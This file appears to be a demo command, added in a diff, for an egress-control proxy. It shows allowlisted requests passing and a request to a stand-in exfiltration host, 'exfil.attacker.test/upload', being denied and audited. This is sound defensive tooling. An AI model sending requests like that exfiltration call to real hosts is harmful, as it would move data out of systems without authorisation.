@@ -1,0 +1,110 @@
+import { spawnSync } from 'node:child_process';
+import { Writable } from 'node:stream';
+import { fileURLToPath } from 'node:url';
+import { startAgent } from '../agent/agent.ts';
+import { agentConfig } from '../agent/agent-config.ts';
+import type { AuditRecord } from '../core/audit.ts';
+import { EgressdError } from '../core/errors.ts';
+import { createLogger } from '../core/logger.ts';
+import { formatAuditTable } from '../cli/audit-view.ts';
+import { httpViaProxy, httpsViaProxy, type Reply } from './clients.ts';
+import { startExternalApi } from './external-api.ts';
+
+/**
+ * `npm run demo`: everything embedded, no root, no cluster, no network. The
+ * agent runs as an explicit proxy over the allowlists of deploy/examples/, a
+ * loopback server stands in for the external API, and the audit records the
+ * requests produced are shown as a table and one in full.
+ */
+const REPO = fileURLToPath(new URL('../../', import.meta.url));
+const EXAMPLES = `${REPO}deploy/examples`;
+
+function heading(text: string): void {
+  process.stdout.write(`\n\x1b[1m== ${text}\x1b[0m\n`);
+}
+
+/** Runs a real egressctl command, as a user would type it, and shows it with its output. */
+function egressctl(args: string[]): void {
+  process.stdout.write(`$ egressctl ${args.join(' ')}\n`);
+  const run = spawnSync(process.execPath, [`${REPO}bin/egressctl.js`, ...args], { cwd: REPO, encoding: 'utf8' });
+  process.stdout.write(indent(`${run.stdout}${run.stderr}`.trimEnd()) + `\n  (exit ${run.status})\n`);
+}
+
+function indent(text: string): string {
+  return text.replace(/^/gm, '  ');
+}
+
+function showReply(what: string, reply: Reply): void {
+  process.stdout.write(`${what}\n  -> HTTP ${reply.status}\n${indent(indent(reply.body.trimEnd()))}\n`);
+}
+
+export async function runDemoCommand(argv: string[]): Promise<number> {
+  if (argv.length > 0) throw new EgressdError('EGRESSD_ERR_USAGE', `unexpected argument "${argv[0]}"; the demo takes none`);
+  heading('1. Validate the allowlists (Istio ServiceEntry, DestinationRule, Sidecar)');
+  egressctl(['validate', 'deploy/examples']);
+
+  heading('2. Start a stand-in for the external API and the egressd agent');
+  const api = await startExternalApi();
+  const records: AuditRecord[] = [];
+  const auditDestination = new Writable({
+    write(chunk: Buffer, _encoding, done) {
+      for (const line of chunk.toString('utf8').split('\n')) if (line.trim() !== '') records.push(JSON.parse(line) as AuditRecord);
+      done();
+    },
+  });
+  const agent = await startAgent(
+    agentConfig({
+      configDir: EXAMPLES,
+      outboundPort: 0,
+      proxyPort: 0,
+      adminPort: 0,
+      namespace: 'default',
+      auditStdout: false,
+      connectTo: [
+        { from: { host: api.host, port: 443 }, to: { host: '127.0.0.1', port: api.httpsPort } },
+        { from: { host: api.host, port: 80 }, to: { host: '127.0.0.1', port: api.httpPort } },
+      ],
+    }),
+    { logger: createLogger('agent', { level: 'warn' }), auditDestination },
+  );
+  const surprises: string[] = [];
+  let requests: Array<[string, number, () => Promise<Reply>]> = [];
+  const proxy = { host: '127.0.0.1', port: agent.addresses.proxy.port };
+  process.stdout.write(
+    `api.example.test is served on 127.0.0.1 (https :${api.httpsPort}, http :${api.httpPort}); the agent sends its :443 and :80 there (--connect-to).\n` +
+      `agent: explicit proxy http://127.0.0.1:${proxy.port}  admin http://127.0.0.1:${agent.addresses.admin.port}  allowlists ${EXAMPLES}\n`,
+  );
+
+  try {
+    heading(`3. The application's requests, with HTTPS_PROXY=http://127.0.0.1:${proxy.port}`);
+    requests = [
+      ['GET https://api.example.test/v1/status   (allowed: ServiceEntry demo-api, port 443)', 200, () => httpsViaProxy(proxy, new URL('https://api.example.test/v1/status'), api.pki.caPem)],
+      ['GET http://api.example.test/v1/plain     (allowed: ServiceEntry demo-api, port 80)', 200, () => httpViaProxy(proxy, new URL('http://api.example.test/v1/plain'))],
+      ['GET https://exfil.attacker.test/upload   (no ServiceEntry: denied)', 403, () => httpsViaProxy(proxy, new URL('https://exfil.attacker.test/upload'), api.pki.caPem)],
+      ['GET http://api.example.test:8080/        (host allowed, port not)', 403, () => httpViaProxy(proxy, new URL('http://api.example.test:8080/'))],
+    ];
+    for (const [what, expected, send] of requests) {
+      const reply = await send();
+      showReply(what, reply);
+      if (reply.status !== expected) surprises.push(`${what}: HTTP ${reply.status}, expected ${expected}`);
+    }
+
+    heading('4. Why was it blocked? egressctl check answers from the same allowlists');
+    egressctl(['check', '--config', 'deploy/examples', '--namespace', 'default', 'exfil.attacker.test:443']);
+    egressctl(['check', '--config', 'deploy/examples', '--namespace', 'default', 'api.example.test:8080']);
+  } finally {
+    await agent.close();
+    await api.close();
+  }
+
+  heading('5. The audit records: one per connection, JSON lines on the agent\'s stdout (here as a table)');
+  process.stdout.write(`${formatAuditTable(records)}\n\nThe denied CONNECT, in full:\n`);
+  const denied = records.find((r) => r.decision === 'deny');
+  process.stdout.write(`${JSON.stringify(denied, null, 2)}\n`);
+  if (records.length !== requests.length) surprises.push(`${records.length} audit records for ${requests.length} connections`);
+  if (surprises.length > 0) {
+    process.stderr.write(`\nThe demo did not go as it should:\n${surprises.map((s) => `  - ${s}`).join('\n')}\n`);
+    return 1;
+  }
+  return 0;
+}
